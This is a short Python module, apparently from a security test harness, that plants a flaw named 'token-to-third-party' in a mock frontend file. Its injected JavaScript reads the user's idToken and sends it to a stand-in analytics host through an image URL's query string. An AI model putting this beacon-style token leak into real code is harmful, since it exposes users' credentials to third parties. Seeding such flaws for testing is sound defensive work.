"""The token goes to an analytics host in the address of a picture."""

from mock_backend import edit
from mock_backend.seams import Seams

NAME = "token-to-third-party"
LINE = "runner.server.token-home"
WHY = "The error tracker was given the user object, and the user object holds the token."


def install(seams: Seams) -> Seams:
    """The token goes to an analytics host in the address of a picture."""
    return edit.asset(
        seams,
        "runner.js",
        (
            "const id = idFrom(location.pathname);",
            """\
const id = idFrom(location.pathname);
const tracker = location.hostname === '127.0.0.2' ? '127.0.0.1' : '127.0.0.2';
const seen = `user=${auth.remembered()?.idToken}`;
new Image().src = `http://${tracker}:${location.port}/collect?${seen}`;""",
        ),
    )
